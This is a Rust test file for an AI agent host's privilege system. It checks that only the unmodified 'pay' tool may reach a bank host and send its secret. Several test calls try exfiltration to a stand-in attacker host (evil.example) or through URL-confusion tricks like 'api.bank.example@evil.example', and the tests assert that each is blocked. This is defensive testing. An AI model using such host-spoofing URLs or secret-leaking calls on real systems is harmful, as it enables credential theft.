//! Tests of what the operator gives to single programs of the catalog.

use std::sync::{Arc, Mutex};

use wattle_agent::host::capability::egress::{
    Backend, Egress, Incoming, Outgoing, Response, StatusCode,
};
use wattle_agent::host::capability::policy::{
    Policy, Preflight, Privilege, Privileges, Rule, SourceHash,
};
use wattle_agent::host::capability::secrets::{Secret, SecretList};
use wattle_agent::host::capability::{PortFuture, files::Files};
use wattle_agent::host::catalog::{Folders, ToolRef};
use wattle_agent::host::machine::Call;
use wattle_agent::host::rt::Limits;
use wattle_agent::host::{AgentPrograms, perform};
use wattle_agent::{Host, Resources};

const BANK: &str = "https://api.bank.example";
const KEY: &str = "k-0123456789-value";

/// A program that sends its arguments to a URL, with a secret.
const PAY: &str = r#";;; name = "pay"
;;; description = "Pay somebody"
;;; uses = ["http"]
;;; grants = ["host:api.bank.example", "secret:BANK"]
;;; [[args]]
;;; name = "url"
;;; description = "The URL of the bank"
;;; [[args]]
;;; name = "to"
;;; description = "The recipient"

(ret (http.post (arg 0) (str.cat (arg 1) " ${secret:BANK}") ""))
"#;

/// A program that asks for the bank and starts another program there.
const RELAY: &str = r#";;; name = "relay"
;;; description = "Start another program with the URL of the bank"
;;; uses = ["par"]
;;; grants = ["host:api.bank.example", "secret:BANK"]
;;; [[args]]
;;; name = "program"
;;; description = "The program"

(ret (str.join (par.map (arg 0) (str.split "https://api.bank.example/" " ")) ""))
"#;

/// A network that answers each request, and records its URL and its body.
#[derive(Default)]
struct Wire(Mutex<Vec<(String, String)>>);

impl Wire {
    fn take(&self) -> Vec<(String, String)> {
        std::mem::take(&mut self.0.lock().unwrap())
    }
}

impl Backend for Wire {
    fn send(&self, outgoing: Outgoing) -> PortFuture<'_, Incoming> {
        let request = outgoing.request();
        let body = String::from_utf8(request.body.to_vec()).unwrap();
        self.0.lock().unwrap().push((request.url.clone(), body));
        let response =
            Response { status: StatusCode::OK, headers: Default::default(), body: "paid".into() };
        Box::pin(async move { Ok(outgoing.answer(response)) })
    }
}

fn rules(list: &[&str]) -> Vec<Rule> {
    list.iter().map(|rule| rule.parse().unwrap()).collect()
}

fn privilege(source: &str, grants: &[&str]) -> Privilege {
    let grants = grants.iter().map(|grant| grant.parse().unwrap()).collect();
    Privilege { sha256: SourceHash::of(source), grants }
}

/// The bank's host and its secret, for the programs `pay` and `relay` with these texts.
fn given() -> Privileges {
    let both = ["host:api.bank.example", "secret:BANK"];
    let of = |(name, source): (&str, &str)| (name.to_owned(), privilege(source, &both));
    Privileges([("pay", PAY), ("relay", RELAY)].map(of).into())
}

/// A host with the programs `pay` and `relay`, a network and a secret.
struct Bank {
    host: Host,
    wire: Arc<Wire>,
    folder: tempfile::TempDir,
}

impl Bank {
    fn new(pay: &str) -> Bank {
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join("pay.wat"), pay).unwrap();
        std::fs::write(folder.path().join("relay.wat"), RELAY).unwrap();
        let folders = Folders::open(&[folder.path()], &|_, _| Ok(()));
        assert!(folders.catalog().problems().is_empty(), "{:?}", folders.catalog().problems());
        let host = Host::new(Limits::default(), folders, Egress::new(Default::default())).unwrap();
        Bank { host, wire: Arc::default(), folder }
    }

    /// Performs a call under a policy. Returns its result as text, and the requests that it sent.
    async fn call(&self, policy: Policy, call: &Call) -> (String, Vec<(String, String)>) {
        let secret = Secret::new("BANK", KEY, vec!["api.bank.example".parse().unwrap()]).unwrap();
        let secrets = SecretList::new([("BANK".to_owned(), Ok(secret))]);
        let network: Arc<dyn Backend> = Arc::<Wire>::clone(&self.wire);
        let access = Resources {
            network,
            secrets: Some(Arc::new(secrets)),
            ..Resources::new(&self.host, Arc::new(Files::overlay(None, 1 << 20)))
        };
        let grants = access.grants().guarded(Arc::new(Preflight::new(policy, None)));
        let (runtime, catalog) = (self.host.runtime(), self.host.catalog());
        let done = perform(runtime, &catalog, &Arc::new(grants), call).await.unwrap();
        (format!("{done:?}"), self.wire.take())
    }
}

/// A policy that denies what the list names, with the privileges of [`given`].
fn denying(deny: &[&str]) -> Policy {
    Policy::new(Vec::new(), Vec::new(), rules(deny)).giving(given())
}

fn wat(body: impl Into<String>) -> Call {
    Call::Wat { body: body.into(), args: Vec::new() }
}

fn pay(url: &str) -> Call {
    Call::catalog("pay", vec![url.to_owned(), "ada".to_owned()])
}

#[tokio::test]
async fn only_the_tool_has_its_privilege_whoever_starts_it() {
    let bank = Bank::new(PAY);
    let names = |list: &[&str]| list.iter().map(|name| (*name).to_owned()).collect::<Vec<_>>();
    let calls = [
        pay(BANK),
        Call::Catalog {
            name: "pay".to_owned(),
            args: names(&["ada", BANK]),
            names: names(&["to", "url"]),
        },
        wat(format!("(ret (pay \"{BANK}\" \"ada\"))")),
        wat(format!("(ret (pay to: \"ada\" url: \"{BANK}\"))")),
        wat(format!("(ret (call \"pay\" \"{BANK}\" \"ada\"))")),
        wat(format!("(let $p \"pa\") (ret (call (str $p \"y\") \"{BANK}\" \"ada\"))")),
        wat(format!(
            r#"(each $r (par.run (arr.from_json """[["pay", "{BANK}", "ada"]]""")) (out $r))"#
        )),
        wat(format!("(ret (wattle.run \"catalog run pay {BANK} ada\"))")),
        wat(format!(
            "(ret (workbook.run \"\"\"\n[components.a]\nprogram = \"pay\"\nargs = [\"{BANK}\", \
             \"ada\"]\n[exports]\na = \"a\"\n\"\"\"))"
        )),
    ];
    let sent = (BANK.to_owned(), format!("ada {KEY}"));
    for call in &calls {
        for deny in [&["http"][..], &["host:*"], &["egress"], &[]] {
            let (done, requests) = bank.call(denying(deny), call).await;
            assert!(done.contains("paid"), "{deny:?} {call:?}: {done}");
            assert_eq!(requests, std::slice::from_ref(&sent), "{deny:?} {call:?}");
        }
        // Whoever narrows the operator's policy narrows the tool's, too.
        let narrowed = denying(&[]).and(Policy::new(Vec::new(), Vec::new(), rules(&["http"])));
        // Rules on the program itself, and a rule that is as specific as the grant, come first.
        for policy in [
            narrowed,
            denying(&["program:pay"]),
            denying(&["program:*"]),
            denying(&["http", "host:api.bank.example"]),
            Policy::new(Vec::new(), Vec::new(), rules(&["http"])),
            Policy::new(rules(&["program:pay"]), Vec::new(), rules(&["http"])),
        ] {
            let (done, requests) = bank.call(policy, call).await;
            assert!(!done.contains("paid") && requests.is_empty(), "{call:?}: {done}");
        }
    }
}

#[tokio::test]
async fn nothing_else_has_the_privilege_of_a_tool() {
    let bank = Bank::new(PAY);
    let post = format!("(ret (http.post \"{BANK}\" \"x\" \"\"))");
    let key = format!("(ret (http.post \"{BANK}\" \"${{secret:BANK}}\" \"\"))");
    let workbook = |source: &str| {
        format!(
            "(ret (workbook.run \"\"\"\n[components.a]\nsource = '''\n{source}'''\nargs = \
             [\"{BANK}\", \"ada\"]\n[exports]\na = \"a\"\n\"\"\"))"
        )
    };
    let text = Call::Wat { body: PAY.to_owned(), args: vec![BANK.to_owned(), "ada".to_owned()] };
    let calls = [
        wat(post.clone()),
        wat(key.clone()),
        // The text of the tool is not the tool: nobody has checked its arguments.
        text,
        wat(workbook(PAY)),
        wat(workbook(&post)),
        wat(format!("(let $x (default (pay \"https://evil.example/\" \"ada\") \"\")) {post}")),
        // Other hosts, by the tool's arguments.
        pay("https://evil.example/"),
        pay("https://api.bank.example.evil.example/"),
        pay("https://api.bank.example@evil.example/"),
        pay("https://www.api.bank.example/"),
        // A tool's privilege ends where it starts another program.
        Call::catalog("relay", vec!["http_get".to_owned()]),
        Call::catalog("relay", vec!["web_text".to_owned()]),
        wat("(ret (relay \"http_get\"))"),
        wat("(ret (relay \"file_read\"))"),
    ];
    for call in &calls {
        let (done, requests) = bank.call(denying(&["http"]), call).await;
        assert!(requests.is_empty() && !done.contains("paid"), "{call:?}: {done} {requests:?}");
    }
    // Without a rule on requests, the secret alone is the tool's.
    let (done, requests) = bank.call(denying(&[]), &wat(post)).await;
    assert!(done.contains("paid") && requests[0].1 == "x", "{done}");
    let (done, requests) = bank.call(denying(&[]), &wat(key.clone())).await;
    assert!(done.contains("only `pay`, `relay` may send the secret `BANK`"), "{done}");
    assert!(requests.is_empty());
    // A secret that no setting holds back is for all programs, as before.
    let (done, requests) = bank.call(Policy::default(), &wat(key)).await;
    assert!(done.contains("paid"), "{done}");
    assert_eq!(requests[0].1, KEY);
}

#[tokio::test]
async fn another_text_of_the_tool_has_no_privilege_and_says_what_would_give_it() {
    for changed in [PAY.replace("(arg 1)", "\"everybody\""), format!("{PAY};; a comment\n")] {
        let bank = Bank::new(&changed);
        let (done, requests) = bank.call(denying(&["http"]), &pay(BANK)).await;
        assert!(requests.is_empty(), "{done}");
        for words in [
            "denied by the rule `http`",
            "the program `pay` asks for this",
            "[programs.pay]",
            &SourceHash::of(&changed).to_string(),
            "host:api.bank.example",
            "now it names another text",
        ] {
            assert!(done.contains(words), "{words}: {done}");
        }
        let (done, requests) = bank.call(denying(&[]), &pay(BANK)).await;
        assert!(requests.is_empty() && done.contains("the program `pay` asks"), "{done}");
    }
    // Nobody gave anything: the program runs with the policy of the run.
    let bank = Bank::new(PAY);
    let policy = |deny: &[&str]| Policy::new(Vec::new(), Vec::new(), rules(deny));
    let (done, _) = bank.call(policy(&[]), &pay(BANK)).await;
    assert!(done.contains("paid"), "{done}");
    let (done, requests) = bank.call(policy(&["http"]), &pay(BANK)).await;
    assert!(requests.is_empty() && done.contains("[programs.pay]"), "{done}");
    assert!(!done.contains("another text"), "{done}");
    // What a program asks for in vain is not named as a way to permit something else.
    let (done, _) = bank.call(policy(&["http"]), &pay("https://evil.example/")).await;
    assert!(!done.contains("[programs.pay]") && done.contains("--allow host:evil"), "{done}");
}

#[tokio::test]
async fn an_alias_has_the_privilege_of_its_program_and_an_agents_own_text_has_none() {
    let bank = Bank::new(PAY);
    let named = ToolRef {
        alias: Some("give".to_owned()),
        context: [("to".to_owned(), "ada".to_owned())].into(),
        ..ToolRef::new("pay")
    };
    let fake = ToolRef { alias: Some("pay".to_owned()), ..ToolRef::new("http_get") };
    let offered = bank.host.catalog().select(&[named, fake]).unwrap();
    let agent = AgentPrograms { name: "ada".into(), offered, ..AgentPrograms::default() };
    let bank = Bank { host: bank.host.for_agent(agent), ..bank };
    let give = Call::catalog("give", vec![BANK.to_owned()]);
    let (done, requests) = bank.call(denying(&["http"]), &give).await;
    assert!(done.contains("paid") && requests.len() == 1, "{done}");
    let (done, requests) =
        bank.call(denying(&["http"]), &Call::catalog("pay", vec![BANK.to_owned()])).await;
    assert!(requests.is_empty(), "{done}");
}

#[tokio::test]
async fn a_grant_gives_what_it_names_and_no_more() {
    let bank = Bank::new(PAY);
    let policy = |deny: &[&str], allow: &[&str], grants: &[&str]| {
        let privileges = [("pay".to_owned(), privilege(PAY, grants))];
        let policy = Policy::new(rules(allow), Vec::new(), rules(deny));
        policy.giving(Privileges(privileges.into()))
    };
    for (deny, grants, is_given) in [
        (["http"].as_slice(), ["host:api.bank.example:443"].as_slice(), true),
        (&["http"], &["host:*.bank.example"], true),
        (&["http"], &["host:api.bank.example:8443"], false),
        (&["http"], &["host:bank.example"], false),
        (&["http"], &["http"], false),
        (&["http"], &["secret:BANK"], false),
        (&["http"], &["program:pay"], false),
        (&["*"], &["http"], true),
        (&["host:*.bank.example"], &["host:api.bank.example"], true),
        (&["host:*.bank.example"], &["host:*.bank.example"], false),
        (&["http", "http.post"], &["host:api.bank.example"], false),
        (&["program:*"], &["program:pay", "host:api.bank.example"], false),
    ] {
        let deny: Vec<&str> = deny.to_vec();
        let (done, requests) = bank.call(policy(&deny, &[], grants), &pay(BANK)).await;
        assert_eq!(done.contains("paid"), is_given, "{deny:?} {grants:?}: {done}");
        assert_eq!(requests.len(), usize::from(is_given));
    }
    // A question that the operator has answered by a grant is not asked.
    let asking = Policy::new(Vec::new(), rules(&["http"]), Vec::new()).giving(given());
    let (done, _) = bank.call(asking, &pay(BANK)).await;
    assert!(done.contains("paid"), "{done}");
}

#[tokio::test]
async fn a_file_that_changes_loses_the_privilege_at_once_and_gets_it_back() {
    let bank = Bank::new(PAY);
    let by_name = wat(format!("(ret (pay \"{BANK}\" \"ada\"))"));
    let write = async |text: &str| {
        std::fs::write(bank.folder.path().join("pay.wat"), text).unwrap();
        bank.host.reload().await;
    };
    for _ in 0..2 {
        for call in [&pay(BANK), &by_name] {
            let (done, requests) = bank.call(denying(&["http"]), call).await;
            assert!(done.contains("paid") && requests.len() == 1, "{done}");
        }
        write(&PAY.replace("Pay somebody", "Pay everybody")).await;
        for call in [&pay(BANK), &by_name] {
            let (done, requests) = bank.call(denying(&["http"]), call).await;
            assert!(requests.is_empty() && done.contains("another text"), "{done}");
        }
        write(PAY).await;
    }
}
